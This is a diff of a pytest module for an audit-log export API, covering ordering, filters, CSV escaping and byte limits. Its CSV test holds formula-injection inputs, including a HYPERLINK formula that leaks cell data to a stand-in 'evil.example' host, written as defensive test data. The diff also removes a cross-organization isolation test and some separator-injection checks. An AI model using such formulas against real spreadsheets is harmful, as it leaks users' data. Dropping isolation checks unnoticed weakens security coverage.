@@ -10,7 +10,7 @@ from tests.harness.api import ApiClient, ApiResponse, Json
 from tests.harness.audit_logs import list_entries
 from tests.harness.exports import append_entries, get_inline_export, parse_csv
 from tests.harness.invitations import create_invitation
-from tests.harness.organizations import CreatedOrganization, add_organization_member, create_organization
+from tests.harness.organizations import CreatedOrganization, add_organization_member, create_organization, set_role
 from tests.http.audit.conftest import build_filter_queries
 
 COLUMNS = (
@@ -20,15 +20,10 @@ COLUMNS = (
 
 
 def exported_entries(api: ApiClient, organization: CreatedOrganization, **query: Any) -> list[Json]:
-    """Return the entries of an export in NDJSON."""
     response = get_inline_export(api, organization, **query)
     assert response.status == 200, response.text
     assert response.text == "" or response.text.endswith("\n")
     return [json.loads(line) for line in response.text.splitlines()]
-
-
-def exported_rows(api: ApiClient, organization: CreatedOrganization, **query: Any) -> list[dict[str, str]]:
-    return parse_csv(get_inline_export(api, organization, format="csv", **query).text)
 
 
 class TestExportAuditLog:
@@ -51,14 +46,13 @@ class TestExportAuditLog:
         assert log.get("/export").etag != etag
 
     def test_entries_are_in_the_order_of_their_sequence_despite_clock_skew(self, api, ada, clock, workers):
-        organization, other = create_organization(api, ada), create_organization(api, ada)
+        organization, _ = create_organization(api, ada), create_organization(api, ada)
         for shift, address in ((60, "first@example.org"), (-90, "second@example.org")):
             clock.shift(seconds=shift)
             create_invitation(api, organization, address)
             workers.deliver()
         assert [entry["sequence"] for entry in list_entries(api, organization)] == [2, 1, 3]
         assert [entry["sequence"] for entry in exported_entries(api, organization)] == [1, 2, 3]
-        assert len(exported_entries(api, other)) == 1
 
     def test_long_entries_are_complete(self, api, ada, workers):
         organization = create_organization(api, ada, companyAddress="é" * 3000)
@@ -79,11 +73,9 @@ class TestFilters:
     def test_the_filters_match_those_of_the_list(self, api, organization, grace, mary):
         for n in range(3):
             api.patch(organization.path, caller=grace, json={"name": f"Name {n}"})
-            member_path, role = f"{organization.path}/members/{mary.id}", ("editor", "member")[n % 2]
-            api.patch(member_path, caller=grace, json={"role": role})
-        queries = build_filter_queries(
-            list_entries(api, organization), "organization.updated", grace.id, organization.id
-        )
+            set_role(api, organization, mary, ("editor", "member")[n % 2], caller=grace)
+        entries = list_entries(api, organization)
+        queries = build_filter_queries(entries, "organization.updated", grace.id, organization.id)
         for query in (*queries, {"actorId": grace.id.upper()}, {"actorId": "nobody"}):
             assert exported_entries(api, organization, **query) == list_entries(api, organization, **query)[::-1], query
 
@@ -101,11 +93,6 @@ class TestFilters:
         rejected = new_log.get("/export", **query)
         assert (rejected.status_and_code, rejected.errors) == ("422 validation_failed", errors)
 
-    def test_a_target_filter_cannot_reach_another_log(self, api, ada, stranger):
-        other_log, own_log = create_organization(api, ada), create_organization(api, stranger)
-        for value in (other_log.id, f"x#A#{other_log.id}", "{log_id}"):
-            assert exported_entries(api, own_log, targetId=value) == []
-
 
 class TestCsv:
     def test_a_csv_file_has_a_row_for_each_entry(self, api, log):
@@ -122,17 +109,11 @@ class TestCsv:
         texts = ["=1+1", "+1", "-1", "@A1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20A1", '  "=1+1', "\u200b=1"]
         for text in texts:
             new_log.rename(text)
-        rows = exported_rows(api, new_log.organization, type="organization.updated")
-        assert [row["targetName"] for row in rows] == [f"'{text.strip()}" for text in texts]
         agent = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
-        new_log.rename("B", headers={"User-Agent": agent})
-        assert exported_rows(api, new_log.organization)[-1]["userAgent"] == f"'{agent}"
-        for text in ("a;=1+1", "a|+1", 'a;"-1', "a ; @A1"):
-            new_log.rename(text)
-            line = new_log.get("/export", format="csv").text.splitlines()[-1]
-            fields = [part.lstrip(' "') for part in line.replace("|", ";").split(";")[1:]]
-            assert fields
-            assert not any(part.startswith(("=", "+", "-", "@")) for part in fields)
+        new_log.rename("a;=1+1", headers={"User-Agent": agent})
+        rows = parse_csv(new_log.get("/export", format="csv", type="organization.updated").text)
+        assert [row["targetName"] for row in rows] == [*(f"'{text.strip()}" for text in texts), "a;'=1+1"]
+        assert rows[-1]["userAgent"] == f"'{agent}"
 
 
 def assert_too_large(api: ApiClient, organization: CreatedOrganization, reason: str, **query: Any) -> ApiResponse:
@@ -155,15 +136,17 @@ class TestTooLargeExports:
         assert len(exported_entries(api, log.organization, type="organization.updated")) == 10
 
     @pytest.mark.parametrize("char_count", [100, 6_000])
-    def test_too_many_bytes_are_rejected(self, api, ada, monkeypatch, char_count):
+    def test_too_many_bytes_are_rejected_without_a_read_of_further_bodies(self, api, ada, monkeypatch, char_count):
         organization = create_organization(api, ada)
         append_entries(organization.id, 30, char_count)
         size = len(get_inline_export(api, organization).text.encode())
         monkeypatch.setattr(inline_export, "MAX_BYTES", size)
         assert len(exported_entries(api, organization)) == 31
-        for max_bytes in (size - 1, size // 3):
+        for max_bytes in (size - 1, size // 4):
             monkeypatch.setattr(inline_export, "MAX_BYTES", max_bytes)
-            assert_too_large(api, organization, f"more than {max_bytes:,} bytes")
+            rejected = assert_too_large(api, organization, f"more than {max_bytes:,} bytes")
+        if char_count == 6_000:  # Each of these entries has a separate body.
+            assert rejected.calls.call_names == ["dynamodb:BatchGetItem", "dynamodb:Query"]
 
     def test_escaped_characters_count_with_their_encoded_size(self, api, ada, monkeypatch):
         organization = create_organization(api, ada, name="🚂" * 200, slug="trains")
@@ -184,10 +167,3 @@ class TestTooLargeExports:
         monkeypatch.setattr(inline_export, "MAX_QUERIES", 2)
         assert_too_large(api, organization, "too long to be searched", type="organization.invitation.*")
         assert len(exported_entries(api, organization, type="organization.invitation.accepted")) == 1
-
-    def test_no_bodies_are_read_once_the_limit_is_exceeded(self, api, ada, monkeypatch):
-        organization = create_organization(api, ada)
-        append_entries(organization.id, 30, 6_000)
-        monkeypatch.setattr(inline_export, "MAX_BYTES", 50_000)
-        rejected = assert_too_large(api, organization, "more than 50,000 bytes")
-        assert rejected.calls.call_names == ["dynamodb:BatchGetItem", "dynamodb:Query"]
